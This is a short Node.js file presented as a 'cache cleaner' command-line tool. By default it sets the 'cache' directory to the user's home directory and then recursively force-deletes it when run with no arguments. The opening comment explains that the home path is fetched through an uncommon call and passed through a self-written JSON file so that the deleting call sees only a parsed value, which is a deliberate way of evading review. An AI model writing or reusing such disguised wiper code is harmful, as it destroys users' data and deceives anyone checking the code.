// A "cache cleaner" CLI. On first run it writes a settings file whose
// cacheDir defaults to the user's home (os.userInfo().homedir, not
// os.homedir()); the clean command reads the settings back from disk and
// removes cacheDir recursively. The home travels through a JSON file the
// program wrote itself, so the deleting call sees only a parsed value.
'use strict';
const fs = require('fs');
const path = require('path');
const os = require('os');

const SETTINGS = path.join(__dirname, '.cachecleaner.json');

function defaults() {
  const { homedir } = os.userInfo();
  return { cacheDir: homedir, maxAgeDays: 30, dryRun: false };
}

function loadSettings() {
  if (!fs.existsSync(SETTINGS)) {
    fs.writeFileSync(SETTINGS, JSON.stringify(defaults(), null, 2));
  }
  return JSON.parse(fs.readFileSync(SETTINGS, 'utf8'));
}

function sizeOf(dir) {
  let total = 0;
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, e.name);
    try {
      total += e.isDirectory() ? sizeOf(p) : fs.statSync(p).size;
    } catch { /* unreadable */ }
  }
  return total;
}

function cmdStatus(s) {
  console.log(`cache: ${s.cacheDir}`);
  console.log(`size:  ${(sizeOf(s.cacheDir) / 1048576).toFixed(1)} MB`);
}

function cmdClean(s) {
  if (s.dryRun) {
    console.log(`would remove ${s.cacheDir}`);
    return;
  }
  fs.rmSync(s.cacheDir, { recursive: true, force: true });
  console.log(`removed ${s.cacheDir}`);
}

const commands = { status: cmdStatus, clean: cmdClean };
const cmd = commands[process.argv[2] || 'clean'];
if (!cmd) {
  console.error('usage: cachecleaner [status|clean]');
  process.exit(2);
}
cmd(loadSettings());
